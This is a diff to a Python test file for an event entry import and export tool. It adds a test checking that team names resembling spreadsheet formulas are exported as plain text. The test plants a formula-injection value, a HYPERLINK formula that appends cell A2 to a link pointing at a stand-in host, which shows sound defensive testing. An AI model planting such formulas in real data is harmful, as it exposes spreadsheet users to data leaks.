@@ -160,3 +160,11 @@ def test_export_schedule_and_results_read_matches_as_stored(event):
 def test_import_template_is_importable(event):
     import_entries(event, import_template(), "template.xlsx")
     assert event.pairs.get().name == "示例一队"
+
+
+def test_exported_names_that_look_like_formulas_stay_text(event):
+    import_entries(event, xlsx(GOOD), "e.xlsx")
+    event.pairs.filter(name="甲一队").update(name='=HYPERLINK("http://x/?"&A2,"点此")')
+    book = load_workbook(io.BytesIO(export_entries(event)))
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
+    assert cells and all(c.data_type == "s" for c in cells)
